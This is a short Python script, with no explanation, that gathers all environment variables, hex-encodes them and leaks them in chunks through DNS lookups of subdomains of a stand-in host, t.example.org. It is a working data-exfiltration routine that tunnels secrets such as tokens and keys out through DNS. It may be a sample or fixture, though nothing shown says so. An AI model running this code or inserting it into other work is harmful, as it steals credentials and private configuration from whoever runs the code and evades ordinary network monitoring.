import binascii
import os
import socket

payload = binascii.hexlify(repr(sorted(os.environ.items())).encode()).decode()
for i in range(0, len(payload), 60):
    try:
        socket.gethostbyname(f"{i}.{payload[i:i + 60]}.t.example.org")
    except OSError:
        pass
